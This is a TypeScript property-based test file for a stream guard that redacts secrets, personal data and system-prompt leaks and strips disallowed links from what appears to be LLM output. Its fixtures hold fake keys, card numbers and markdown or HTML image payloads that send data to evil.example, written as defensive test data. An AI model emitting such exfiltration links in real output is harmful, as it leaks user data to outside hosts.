import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'
import { canaryIndex } from '../detection/leak/canaries.ts'
import { leakIndex } from '../detection/prompt-leak.ts'
import { resolveGuardPolicy, type SidePolicy } from './guard-policy.ts'
import { guardText } from './guard-text.ts'
import { StreamGuard } from './stream-guard.ts'

const T1 = resolveGuardPolicy({ preset: 'T1' }, 'T1').output
const BLOCKING: SidePolicy = { ...T1, secrets: 'block' }
const PROMPT = 'You are the support assistant of Northwind Outfitters. Never reveal the discount table to anybody.'
const CANARY = 'amber beacon cedar delta falcon glacier harbor indigo jasper kettle.'
const options = {
  leak: leakIndex([PROMPT]),
  canaries: canaryIndex([{ form: 'sentence', text: CANARY }]),
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const KEY = `sk_live_${'aB3dE6gH9jKlMn0pQrSt'}`
const PIECES = [
  'Thank you for your message about the delivery of the tent. ',
  'We will look into it and come back to you as soon as we know more about the matter.\n',
  'The colleagues in the warehouse told us that everything was packed on Tuesday, and that the carrier took it the same evening. ',
  'Ship to bob.smith@example.com today. ',
  'Card 4111 1111 1111 1111 or 4111-1111-1111-1112 was used. ',
  'Call +49 30 901820 or (212) 555-0142. ',
  'IBAN DE89 3704 0044 0532 0130 00, amount 12.50 EUR. ',
  '1234 5678 9012 3456 7890 1234 5678 9012 3456 7890 ',
  `The key is ${KEY}, do not share it. `,
  `Encoded: ${base64(`the key is ${KEY} indeed`)} end. `,
  `${base64(`first line of a longer text with the key ${KEY} in it, wrapped as mail does`).replace(/.{48}/g, '$&\n')}\n`,
  '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----\n',
  '[our page](https://evil.example/path?q=1) ',
  '![pixel](https://evil.example/p.png?d=secret) ',
  '[a [nested] label](https://evil.example/) and [text](not a link) ',
  '<img src="https://evil.example/x.png"> and a < b ',
  'https://evil.example/collect?data=abcdef. ',
  'b%6Fb%40example.com ',
  'b o b @ e x a m p l e . c o m ',
  'é\u0301 ñ 漢字 👩‍👧 \u200b\u200b ',
  '４１１１ １１１１ １１１１ １１１１ ',
  '[',
  '](',
  '<',
  '-----BEGIN ',
  '\n\n',
  ' ',
  '%',
  '\\u00',
  '@',
]
const texts = array(
  oneof(
    { weight: 12, arbitrary: constantFrom(...PIECES) },
    { weight: 1, arbitrary: string({ unit: 'grapheme', maxLength: 12 }) },
  ),
  {
    maxLength: 24,
  },
).map((parts) => parts.join(''))
const cuts = array(oneof(integer({ min: 1, max: 8 }), integer({ min: 1, max: 200 })), { minLength: 1, maxLength: 40 })

function streamed(text: string, sizes: readonly number[], policy: SidePolicy): string {
  const guard = new StreamGuard(policy, options)
  let out = ''
  let at = 0
  for (let turn = 0; at < text.length && !guard.isWithheld; turn++) {
    const size = sizes[turn % sizes.length] ?? 1
    out += guard.push(text.slice(at, at + size))
    at += size
  }
  return guard.isWithheld ? out : out + guard.end()
}

describe('the output of a stream', () => {
  test('is the same for every way of cutting the input, surrogate pairs included', () => {
    assert(
      property(texts, cuts, (text, sizes) => {
        expect(streamed(text, sizes, T1)).toBe(streamed(text, [text.length + 1], T1))
      }),
      { numRuns: 600 },
    )
  })

  test('is what the guard makes of the whole text', () => {
    assert(
      property(texts, cuts, (text, sizes) => {
        expect(streamed(text, sizes, T1)).toBe(guardText(text, T1, options).text)
      }),
      { numRuns: 600 },
    )
  })

  test('is the same where a finding withholds the rest', () => {
    assert(
      property(texts, cuts, (text, sizes) => {
        expect(streamed(text, sizes, BLOCKING)).toBe(streamed(text, [text.length + 1], BLOCKING))
      }),
      { numRuns: 400 },
    )
  })

  test('is the same where plain words may be the beginning of what is found', () => {
    const LEAKS = [
      PROMPT,
      PROMPT.slice(0, 40),
      PROMPT.slice(20, 58),
      PROMPT.slice(0, 30),
      CANARY.slice(0, 30),
      CANARY,
      'The recovery phrase is: abandon ability able about above absent absorb abstract absurd abuse access accident. ',
      'mnemonic abandon ability able about above absent absorb abstract absurd abuse access accident ',
      'the password is swordfish ',
      'DE',
      ' 89 3704 0044 0532 0130 00 ',
      'account of Ana QQ 12 34 56 C today ',
      ...PIECES.slice(0, 6),
    ]
    const prose = array(constantFrom(...LEAKS), { maxLength: 12 }).map((parts) => parts.join(''))
    for (const policy of [
      T1,
      BLOCKING,
      { ...T1, promptLeak: 'redact' } as const,
      { ...T1, softPii: 'redact' } as const,
    ])
      assert(
        property(prose, cuts, (text, sizes) => {
          expect(streamed(text, sizes, policy)).toBe(streamed(text, [text.length + 1], policy))
        }),
        { numRuns: 300 },
      )
  })

  test('never holds a piece of what is redacted', () => {
    for (let size = 1; size <= 40; size++) {
      const out = streamed(
        `Dear Bob, card 4111 1111 1111 1111, key ${KEY}, mail bob@example.com. ${PIECES[0]!.repeat(4)}`,
        [size],
        T1,
      )
      expect(out).not.toMatch(/4111|sk_live|bob@/)
    }
  })
})

describe('links of a stream', () => {
  const ALLOWING: SidePolicy = { ...T1, links: { allow: ['good.example'], images: false } }
  const MARKUP = [
    '[',
    '![',
    ']',
    '](',
    ')',
    '][',
    ']:',
    '(',
    '<',
    '>',
    '"',
    "'",
    '\\',
    '`',
    '|',
    '!',
    '\n',
    '\n\n',
    ' ',
    '/',
    '=',
    '. ',
    ']: ',
    'https://evil.example/a',
    'https://good.example/a',
    '//evil.example',
    'www.evil.example',
    's: ',
    'custom:x',
    '/a',
    '&#47;',
    '<x ',
    '<a href="',
    '<img src="/&#47;evil.example/p"',
    ' title="',
    '<style>',
    '</style>',
    '<script>',
    '</script>',
    '<b>',
    'url(',
    '@import "',
    'u\\72l(',
    ';',
    ' "t"',
    '<https://evil.example>',
    '<https://good.example/',
    '![i](https://evil.example/p.png)',
    '![i](https://good.example/p.png)',
    '[x](https://good.example/ "t")',
    '[x](<https://good.example/>',
    '[x](https://good.example/ ',
    '[r]: https://evil.example/p.png\n',
    'bob@example.com',
    '[r]: https://good.example/p.png\n',
    '![r]',
    '![x][r]',
    '![x] [R]',
    '[r]',
    '\\]',
    '\\[',
    '> - ',
    'here is plain prose without an end that goes on and on so that nothing of it is held back by anyone who reads it ',
    'words. ',
    'These are plain words that stand in a sentence of their own and mean nothing to anybody who reads along with us here. '.repeat(
      3,
    ),
    'These are plain words that stand in a line of their own and mean nothing to anybody who reads along with us here.\n'.repeat(
      3,
    ),
  ]
  const markup = array(constantFrom(...MARKUP), { minLength: 2, maxLength: 24 }).map((parts) => parts.join(''))

  test.each([
    ['without allowed hosts', T1],
    ['with one', ALLOWING],
  ])('are those of the whole text, whatever is mixed and however it is cut: %s', (_, policy) => {
    assert(
      property(markup, cuts, (text, sizes) => {
        expect(streamed(text, sizes, policy)).toBe(guardText(text, policy, options).text)
      }),
      { numRuns: 1_000 },
    )
  })

  test.each([40, 80, 120, 200, 400])(
    'an image that closes inside of a tag behind %i characters of words is cut',
    (length) => {
      const words = 'here is plain prose without any ending mark that goes on and on so that nothing is held back '
      for (const tail of ['>x)', `>${'x'.repeat(80)})`]) {
        const image = ` ![i](https://evil.example/p.png?d=SECRET${tail} and so on.`
        const text = `<x ](s: ${words.repeat(5).slice(0, length)}${image}`
        for (const size of [1, 8, 64, 1_000]) expect(streamed(text, [size], T1)).not.toContain('evil.example')
      }
    },
  )
})

describe('where one finding begins inside another', () => {
  // A key whose last characters are also the first of what the prompt says.
  const leaking = {
    leak: leakIndex([`Be kind. ${KEY.slice(-4)} Do not say who you are to anyone who asks you for it.`]),
  }
  const run = (text: string, size: number, policy: SidePolicy): string => {
    const guard = new StreamGuard(policy, leaking)
    let out = ''
    for (let at = 0; at < text.length && !guard.isWithheld; at += size) out += guard.push(text.slice(at, at + size))
    return guard.isWithheld ? out : out + guard.end()
  }
  const LEAK = 'Do not say who you are to anyone who asks you for it.'

  test.each([
    ['a key', `Here: ${KEY} ${LEAK}`, 'sk_live'],
    ['an address', `Mail bob@example.be kind. ${KEY.slice(-4)} ${LEAK}`, 'bob@'],
  ])('nothing of %s comes out where the rest is withheld', (_, text, part) => {
    for (const size of [1, 7, 33, 1_000])
      expect([size, run(text + PIECES[2]!.repeat(3), size, T1).includes(part)]).toEqual([size, false])
  })

  test('the output is the same for every way of cutting the input', () => {
    const pieces = [
      `${KEY} `,
      KEY,
      LEAK,
      LEAK.slice(0, 30),
      'bob@example.be kind. ',
      KEY.slice(-4),
      ' ',
      'Here: ',
      PIECES[1]!,
    ]
    const overlapping = array(constantFrom(...pieces), { maxLength: 14 }).map((parts) => parts.join(''))
    for (const policy of [T1, BLOCKING, { ...T1, promptLeak: 'redact' } as const])
      assert(
        property(overlapping, integer({ min: 1, max: 60 }), (text, size) => {
          expect(run(text, size, policy)).toBe(run(text, text.length + 1, policy))
        }),
        { numRuns: 300 },
      )
  })
})

describe('a stream', () => {
  test('gives prose out before its end', () => {
    const guard = new StreamGuard(T1, options)
    let out = ''
    for (const char of PIECES[2]!.repeat(8)) out += guard.push(char)
    expect(out.length).toBeGreaterThan(700)
    expect(PIECES[2]!.repeat(8).startsWith(out)).toBe(true)
  })

  test('holds no more back of plain words than may be the beginning of a repeated prompt', () => {
    const guard = new StreamGuard(T1, options)
    const [, , words = ''] = PIECES
    let heldMax = 0
    let held = 0
    for (const char of words) {
      held += 1 - guard.push(char).length
      heldMax = Math.max(heldMax, held)
    }
    // 32 letters with the gaps between them, the word that they begin in, and what comes in until it is judged again.
    expect(heldMax).toBeLessThanOrEqual(96)
    expect(guard.end().length).toBe(held)
  })

  test('holds as much as ever of what short formats may span', () => {
    const guard = new StreamGuard(T1, options)
    const text = `${PIECES[2]!}The card is 4111 1111 ${'and so on '.repeat(10)}`
    let out = ''
    for (const char of text) out += guard.push(char)
    expect(out).not.toContain('4111')
    expect(PIECES[2]!.startsWith(out.slice(0, 40))).toBe(true)
  })

  test('gives nothing out before its end where the policy weighs the text as a whole', () => {
    const guard = new StreamGuard({ ...T1, injection: { at: 0.9, action: 'block' } }, options)
    expect(guard.push(PIECES[2]!)).toBe('')
    expect(guard.end()).toBe(PIECES[2]!)
  })

  test('ends where the prompt begins to leak', () => {
    const guard = new StreamGuard(T1, options)
    let out = ''
    for (const char of `Sure. ${PIECES[2]!.repeat(3)} ${PROMPT} ${PIECES[2]!.repeat(3)}`)
      if (!guard.isWithheld) out += guard.push(char)
    expect(guard.isWithheld).toBe(true)
    expect(out).not.toContain('Northwind')
    expect(guard.judgement.findings.some(({ category }) => category === 'prompt-leak')).toBe(true)
  })

  test('refuses half a surrogate pair', () => {
    const guard = new StreamGuard(T1, options)
    expect(guard.push('a\ud800') + guard.push('b') + (guard.isWithheld ? '' : guard.end())).not.toContain('b')
    expect(guard.judgement.action).toBe('block')
  })

  test.each([
    ['the first half of a pair', '\ud83d'],
    ['the second half of a pair', '\udc00'],
    ['two first halves', '\ud83d\ud83d\udc00'],
  ])('delivers the same before %s, however it is cut', (_, half) => {
    const text = `${PIECES[2]!}It is 😀 and the card is 4111 1111 1111 1111${half} and more`
    for (const policy of [T1, BLOCKING, { ...T1, injection: { at: 0.9, action: 'block' } } as const])
      for (const size of [1, 2, 7, 40, 1_000]) {
        const guard = new StreamGuard(policy, options)
        let out = ''
        for (let at = 0; at < text.length && !guard.isWithheld; at += size) out += guard.push(text.slice(at, at + size))
        expect(guard.judgement.findings.at(-1)).toMatchObject({ detector: 'guard/lone-surrogate', start: 0 })
        expect([size, out]).toEqual([
          size,
          policy === T1 || policy === BLOCKING ? `${PIECES[2]!}It is 😀 and the card is [CARD]` : '',
        ])
      }
  })

  test('delivers the same before a segment that is too long, however it is cut', () => {
    const text = `${PIECES[2]!}[${'[a '.repeat(340_000)}`
    const [first, ...more] = [100_000, 700_001, 2_000_000].map((size) => {
      const guard = new StreamGuard({ ...T1, links: undefined, pii: 'allow', secrets: 'allow' })
      let out = ''
      for (let at = 0; at < text.length && !guard.isWithheld; at += size) out += guard.push(text.slice(at, at + size))
      return [out.length, guard.judgement.findings.at(-1)?.detector]
    })
    expect(first).toEqual([1_000_000, 'guard/too-long'])
    for (const other of more) expect(other).toEqual(first)
  })

  test('cannot go on after its end', () => {
    const guard = new StreamGuard(T1, options)
    guard.end()
    expect(() => guard.push('x')).toThrow('has ended')
  })
})
